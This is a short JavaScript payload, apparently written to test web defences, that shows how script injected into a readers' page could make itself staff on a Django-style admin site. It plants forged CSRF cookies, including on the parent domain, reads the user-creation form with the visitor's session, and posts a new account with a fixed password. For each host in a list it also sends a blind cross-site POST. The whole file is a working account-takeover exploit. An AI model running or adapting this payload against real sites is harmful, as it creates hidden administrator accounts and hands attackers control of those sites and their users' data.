/* What a script on a readers' page would do to become staff: read the form for accounts and send it,
   and send one unread with a token of its own. `HOSTS`: where it looks for the admin. */
(async function () {
  "use strict";

  document.documentElement.dataset.tried = "…";
  var told = [], token = "a".repeat(32);
  var secret = "thuyền xanh qua bến 5791";
  var wanted = { username: "ke-trom", password1: secret, password2: secret };
  var beside = { "beats-TOTAL_FORMS": "0", "beats-INITIAL_FORMS": "0", _save: "1" };
  ["", "; domain=" + location.hostname.split(".").slice(-2).join(".")].forEach(function (where) {
    ["csrftoken=", "__Host-csrftoken="].forEach(function (name) {
      document.cookie = name + token + "; secure; path=/" + where;
    });
  });

  for (var host of HOSTS) {
    var address = host + "/admin/auth/user/add/";
    try {
      var page = await fetch(address, { credentials: "include" });
      var form = new DOMParser().parseFromString(await page.text(), "text/html").querySelector("#user_form");
      var data = new FormData(form);
      Object.keys(wanted).forEach(function (name) { data.set(name, wanted[name]); });
      var answer = await fetch(address, { method: "POST", body: data, credentials: "include" });
      told.push("sent: " + answer.status);
    } catch (refused) { told.push("not read"); }
    var blind = new URLSearchParams(Object.assign({ csrfmiddlewaretoken: token }, wanted, beside));
    try {
      await fetch(address, { method: "POST", mode: "no-cors", credentials: "include", body: blind });
      told.push("sent unread");
    } catch (refused) { told.push("not sent"); }
  }
  document.documentElement.dataset.tried = told.join(", ");
})();
